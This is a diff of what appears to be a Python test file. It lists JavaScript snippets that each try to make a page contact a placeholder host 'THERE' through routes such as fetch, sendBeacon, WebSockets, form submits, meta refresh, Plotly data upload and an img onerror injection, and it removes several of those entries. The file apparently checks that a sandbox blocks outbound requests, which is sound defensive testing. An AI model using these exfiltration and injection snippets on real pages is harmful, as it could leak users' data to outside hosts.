@@ -215,11 +215,6 @@ def _markup(text: str) -> str:
 
 VECTORS = {
     "fetch": "() => fetch('http://THERE', {mode: 'no-cors'})",
-    "XMLHttpRequest": """() => {
-      const asked = new XMLHttpRequest();
-      asked.open('GET', 'http://THERE');
-      asked.send();
-    }""",
     "beacon": "() => navigator.sendBeacon('http://THERE', 'all')",
     "socket": "() => new WebSocket('ws://THERE') && null",
     "events": "() => new EventSource('http://THERE') && null",
@@ -229,21 +224,6 @@ VECTORS = {
     "import": "() => import('http://THERE')",
     "picture": "() => { new Image().src = 'http://THERE'; }",
     "window": "() => { window.open('http://THERE'); }",
-    "chart uploaded": """() => {
-      const chart = document.querySelector(".js-plotly-plot");
-      Plotly.setPlotConfig({plotlyServerURL: 'http://THERE'});
-      chart._context.plotlyServerURL = 'http://THERE';
-      Plotly.Plots.sendDataToCloud(chart);
-    }""",
-    "chart's link": """() => {
-      const chart = document.querySelector(".js-plotly-plot");
-      return Plotly.newPlot(chart, chart.data, chart.layout,
-        {showLink: true, plotlyServerURL: 'http://THERE', sendData: true})
-        .then(() => chart.querySelector(".js-link-to-tool")?.click());
-    }""",
-    "image of a chart": """() => Plotly.relayout(
-      document.querySelector(".js-plotly-plot"),
-      {images: [{source: 'http://THERE', x: 0, y: 1, sizex: 1, sizey: 1}]})""",
     "link in a label": """async () => {
       const chart = document.querySelector(".js-plotly-plot");
       await Plotly.relayout(chart, {"xaxis.title.text": "<a href='http://THERE'>x</a>"});
@@ -270,19 +250,9 @@ VECTORS = {
     "vector image": _markup(
         "<svg><image href='http://THERE' width=9 height=9 /></svg>"
     ),
-    "form": """() => {
-      const form = document.createElement("form");
-      form.action = 'http://THERE'; form.method = "post";
-      document.body.append(form); form.submit();
-    }""",
     "form of the page": """() => {
       const form = document.querySelector("form");
       form.setAttribute("action", 'http://THERE'); form.submit();
-    }""",
-    "button with a place": """() => {
-      document.querySelector("form").insertAdjacentHTML("beforeend",
-        "<button formaction='http://THERE' formmethod=post id=evil></button>");
-      document.getElementById("evil").click();
     }""",
     "base": """() => {
       const base = document.createElement("base");
@@ -293,12 +263,6 @@ VECTORS = {
     "link into a window": _link(href="http://THERE", target="_blank"),
     "link that pings": _link(href="#", ping="http://THERE"),
     "download": _link(href="http://THERE", download="x"),
-    "link of a vector picture": """() => {
-      document.body.insertAdjacentHTML("beforeend",
-        "<svg><a href='http://THERE' id=evil><text>x</text></a></svg>");
-      document.querySelector("#evil text").dispatchEvent(
-        new MouseEvent("click", {bubbles: true, cancelable: true}));
-    }""",
     "refresh": _markup("<meta http-equiv=refresh content='0;url=http://THERE'>"),
     "script in markup": _markup(
         "<img src=data:, onerror=\\\"new Image().src='http://THERE'\\\">"
